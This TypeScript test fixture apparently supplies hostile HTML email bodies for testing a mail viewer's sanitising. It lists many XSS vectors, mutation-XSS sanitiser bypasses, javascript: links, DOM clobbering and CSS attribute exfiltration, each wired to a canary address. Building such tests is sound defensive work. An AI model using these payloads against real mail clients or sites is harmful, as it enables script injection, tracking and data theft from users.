import { CANARY } from "./canary.ts";

/** What a mail does to a page that shows it as it came; null where today's browsers hold it. */
type Harm = "runs" | "loads" | "leaves" | null;

export interface HostileMail {
  readonly name: string;
  readonly html: string;
  /** By being shown. */
  readonly shown: Harm;
  /** By a click on the first thing in it that can be clicked. */
  readonly clicked: Harm;
}

interface Hooks {
  /** A script that tells the page and the canary that it ran. Without quotes of either kind. */
  readonly run: string;
  /** An address of the canary. */
  readonly out: string;
}

type Write = (hooks: Hooks) => string;

const SCRIPTS: Readonly<Record<string, Write>> = {
  script: ({ run }) => `<script>${run}</script>`,
  "script-in-head": ({ run }) => `<html><head><script>${run}</script></head><body>x</body></html>`,
  "script-module": ({ run }) => `<script type="module">${run}</script>`,
  "img-onerror": ({ run }) => `<img src="data:," onerror="${run}">`,
  "body-onload": ({ run }) => `<html><body onload="${run}">x</body></html>`,
  "details-ontoggle": ({ run }) => `<details open ontoggle="${run}">x</details>`,
  "input-autofocus": ({ run }) => `<input autofocus onfocus="${run}">`,
  "animation-event": ({ run }) =>
    `<style>@keyframes a{}</style><b style="animation:a 1s" onanimationstart="${run}">x</b>`,
  "style-onload": ({ run }) => `<style onload="${run}">b{color:red}</style>`,
  "svg-script": ({ run }) => `<svg><script>${run}</script></svg>`,
  "svg-onload": ({ run }) => `<svg onload="${run}"></svg>`,
  "svg-animate": ({ run }) => `<svg><animate onbegin="${run}" attributeName="x" dur="1s"/></svg>`,
  "iframe-srcdoc": ({ run }) => `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  "iframe-javascript": ({ run }) => `<iframe src="javascript:${run}"></iframe>`,
  "frameset-onload": ({ run }) => `<frameset onload="${run}"><frame></frameset>`,
  "nested-iframes": ({ run }) =>
    `<iframe srcdoc="<iframe srcdoc='<script>${run}</script>'></iframe>"></iframe>`,
  "template-shadow": ({ run }) =>
    `<div><template shadowrootmode="open"><img src="data:," onerror="${run}"></template></div>`,
};

const LOADS: Readonly<Record<string, Write>> = {
  "script-remote": ({ out }) => `<script src="${out}.js"></script>`,
  "img-pixel": ({ out }) => `<img src="${out}.png" width="1" height="1">`,
  "img-crossorigin": ({ out }) => `<img crossorigin="use-credentials" src="${out}.png">`,
  "img-srcset": ({ out }) => `<img srcset="${out}.png 1x, ${out}-2.png 2x">`,
  "picture-source": ({ out }) => `<picture><source srcset="${out}.png"><img></picture>`,
  "img-protocol-relative": ({ out }) => `<img src="${out.replace("http:", "")}.png">`,
  "input-image": ({ out }) => `<input type="image" src="${out}.png">`,
  background: ({ out }) => `<body background="${out}.png">x</body>`,
  "table-background": ({ out }) => `<table background="${out}.png"><td>x</td></table>`,
  "style-attribute": ({ out }) => `<b style="background:url(${out}.png)">x</b>`,
  "style-element": ({ out }) => `<style>b{background:url("${out}.png")}</style><b>x</b>`,
  "style-escaped": ({ out }) => `<style>b{background:\\75rl(${out}.png)}</style><b>x</b>`,
  "image-set": ({ out }) => `<b style="background:image-set('${out}.png' 1x)">x</b>`,
  "css-content": ({ out }) => `<style>b::before{content:url(${out}.png)}</style><b>x</b>`,
  "list-style": ({ out }) => `<ul style="list-style-image:url(${out}.png)"><li>x</ul>`,
  "border-image": ({ out }) => `<b style="border:1px solid;border-image:url(${out}.png) 1">x</b>`,
  "css-import": ({ out }) => `<style>@import "${out}.css";</style>`,
  "css-import-url": ({ out }) => `<style>@import url(${out}.css);</style>`,
  "font-face": ({ out }) =>
    `<style>@font-face{font-family:f;src:url(${out}.woff2)}b{font-family:f}</style><b>x</b>`,
  "attribute-exfiltration": ({ out }) =>
    `<style>input[value^="s"]{background:url(${out}.png)}</style><input value="secret">`,
  stylesheet: ({ out }) => `<link rel="stylesheet" href="${out}.css">`,
  icon: ({ out }) => `<link rel="preload" as="image" href="${out}.png">`,
  prefetch: ({ out }) => `<link rel="prefetch" href="${out}.html">`,
  modulepreload: ({ out }) => `<link rel="modulepreload" href="${out}.js">`,
  iframe: ({ out }) => `<iframe src="${out}.html"></iframe>`,
  object: ({ out }) => `<object data="${out}.html"></object>`,
  embed: ({ out }) => `<embed src="${out}.html">`,
  poster: ({ out }) => `<video poster="${out}.png"></video>`,
  video: ({ out }) => `<video autoplay muted src="${out}.mp4"></video>`,
  audio: ({ out }) => `<audio preload="auto" src="${out}.mp3"></audio>`,
  "svg-image": ({ out }) => `<svg><image href="${out}.png" width="9" height="9"/></svg>`,
  "svg-image-xlink": ({ out }) =>
    `<svg><image xlink:href="${out}.png" width="9" height="9"/></svg>`,
  "svg-fe-image": ({ out }) =>
    `<svg><filter id="f"><feImage href="${out}.png"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
  "svg-style": ({ out }) => `<svg><style>@import url(${out}.css);</style></svg>`,
  "meta-refresh": ({ out }) => `<meta http-equiv="refresh" content="0;url=${out}.html">`,
  "base-href": ({ out }) => `<base href="${out}/"><img src="x.png">`,
};

/** Held by today's browsers, or harmful only where a sanitiser reads HTML otherwise than they do. */
const ASLEEP: Readonly<Record<string, Write>> = {
  "math-breakout": ({ run }) =>
    `<math><mtext><table><mglyph><style><img src="data:," onerror="${run}">`,
  "mxss-noscript": ({ run }) =>
    `<noscript><p title="</noscript><img src='data:,' onerror='${run}'>"></noscript>`,
  "mxss-style-comment": ({ run }) =>
    `<svg></p><style><a id="</style><img src='data:,' onerror='${run}'>">`,
  "mxss-math-comment": ({ run }) =>
    `<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=data:, onerror=${run}&gt;">`,
  "mxss-form": ({ run }) =>
    `<form><math><mtext></form><form><mglyph><style></math><img src="data:," onerror="${run}">`,
  "mxss-select": ({ run }) => `<select><style></select><img src='data:,' onerror='${run}'></style>`,
  "mxss-cdata": ({ run }) => `<svg><![CDATA[><img src="data:," onerror="${run}">]]></svg>`,
  "mxss-textarea": ({ run }) =>
    `<textarea><img title="</textarea><img src='data:,' onerror='${run}'>"></textarea>`,
  "mxss-depth": ({ run }) =>
    `${"<div>".repeat(600)}<svg><style><img src="data:," onerror="${run}"></style></svg>`,
  "svg-use-data": ({ run }) =>
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${run}'/>#x"/></svg>`,
  "svg-picture": ({ run }) =>
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>">`,
  "css-javascript": ({ run }) => `<b style="background:url('javascript:${run}')">x</b>`,
  "css-expression": ({ run }) => `<b style="width:expression(${run})">x</b>`,
  "object-svg": ({ run }) =>
    `<object type="image/svg+xml" data="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>"></object>`,
  "clobbered-document": () =>
    `<img name="documentElement"><img name="querySelectorAll"><form id="body"><input name="attributes"></form><a id="URL"></a><a id="activeElement"></a>`,
  "policy-of-its-own": ({ out }) =>
    `<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'"><link rel="dns-prefetch" href="${out}">`,
  preconnect: ({ out }) => `<link rel="preconnect" href="${out}">`,
  "nul-in-tag": ({ run }) => `<scr\0ipt>${run}</scr\0ipt><img src="data:,"\0onerror="${run}">`,
  unclosed: ({ run }) => `<img src="data:," onerror="${run}"`,
};

const CLICKS: Readonly<Record<string, readonly [Harm, Write]>> = {
  "link-javascript": ["runs", ({ run }) => `<a href="javascript:${run}">x</a>`],
  "link-javascript-blank": [null, ({ run }) => `<a target="_blank" href="javascript:${run}">x</a>`],
  "link-javascript-mixed": ["runs", ({ run }) => `<a href=" &#1;jAva&#10;script:${run}">x</a>`],
  "link-data": [null, ({ run }) => `<a href="data:text/html,<script>${run}</script>">x</a>`],
  "link-data-top": [
    null,
    ({ run }) => `<a target="_top" href="data:text/html,<script>${run}</script>">x</a>`,
  ],
  "link-vbscript": [null, () => `<a href="vbscript:msgbox(1)">x</a>`],
  "link-blob": [null, () => `<a href="blob:null/0">x</a>`],
  "link-top": ["leaves", ({ out }) => `<a target="_top" href="${out}.html">x</a>`],
  "link-parent": ["leaves", ({ out }) => `<a target="_parent" href="${out}.html">x</a>`],
  "link-self": ["loads", ({ out }) => `<a target="_self" href="${out}.html">x</a>`],
  "link-named": [
    "leaves",
    ({ out }) => `<a target="console" rel="opener" href="${out}.html">x</a>`,
  ],
  "link-opener": ["loads", ({ out }) => `<a target="_blank" rel="opener" href="${out}.html">x</a>`],
  "link-ping": ["loads", ({ out }) => `<a ping="${out}-ping" href="#x">x</a>`],
  "link-download": ["loads", ({ out }) => `<a download href="${out}.exe">x</a>`],
  "link-relative": ["loads", () => `<a href="/console/settings">x</a>`],
  "link-base-target": ["leaves", ({ out }) => `<base target="_top"><a href="${out}.html">x</a>`],
  "link-covering": [
    "leaves",
    ({ out }) => `<a target="_top" href="${out}.html" style="position:fixed;inset:0">x</a>`,
  ],
  "area-top": [
    "leaves",
    ({ out }) =>
      `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" usemap="#m" width="99" height="99"><map name="m"><area target="_top" shape="default" href="${out}.html"></map>`,
  ],
  "svg-link-top": [
    "leaves",
    ({ out }) =>
      `<svg><a target="_top" href="${out}.html"><rect width="99" height="99"/></a></svg>`,
  ],
  "svg-link-javascript": [
    "runs",
    ({ run }) => `<svg><a xlink:href="javascript:${run}"><rect width="99" height="99"/></a></svg>`,
  ],
  "math-link": [null, ({ run }) => `<math href="javascript:${run}"><mi>xxxxxx</mi></math>`],
  "form-get": ["loads", ({ out }) => `<form action="${out}"><button>x</button></form>`],
  "form-top": [
    "leaves",
    ({ out }) => `<form target="_top" action="${out}"><input type="submit"></form>`,
  ],
  "form-javascript": [
    "runs",
    ({ run }) => `<form action="javascript:${run}"><button>x</button></form>`,
  ],
  "form-outside": [
    "loads",
    ({ out }) => `<form id="f"></form><button form="f" formaction="${out}">x</button>`,
  ],
  "button-onclick": ["runs", ({ run }) => `<button onclick="${run}">x</button>`],
  "popover-toggle": [
    "runs",
    ({ run }) =>
      `<button popovertarget="p">x</button><b popover id="p" onbeforetoggle="${run}">x</b>`,
  ],
};

/** Mails that try to run, load, or lead away; each with an address of its own at the canary. */
export const HOSTILE_MAILS: readonly HostileMail[] = [
  ...Object.entries(SCRIPTS).map(([name, write]) => mail(name, write, { shown: "runs" })),
  ...Object.entries(LOADS).map(([name, write]) => mail(name, write, { shown: "loads" })),
  ...Object.entries(ASLEEP).map(([name, write]) => mail(name, write, {})),
  ...Object.entries(CLICKS).map(([name, [clicked, write]]) => mail(name, write, { clicked })),
];

function mail(name: string, write: Write, harm: { shown?: Harm; clicked?: Harm }): HostileMail {
  const out = `${CANARY}/${name}`;
  const run = [
    `top.postMessage(${quoteless(`ran ${name}`)},${quoteless("*")})`,
    `window.opener?.top.postMessage(${quoteless(`ran ${name}`)},${quoteless("*")})`,
    `void(new Image().src=${quoteless(`${out}-ran`)})`,
  ].join(";");
  return { name, html: write({ run, out }), shown: null, clicked: null, ...harm };
}

/** A text in JavaScript that no quote, bracket or entity of the HTML around it can end. */
function quoteless(text: string): string {
  const codes = [...text].map((letter) => letter.codePointAt(0));
  return `String.fromCharCode(${codes.join(",")})`;
}
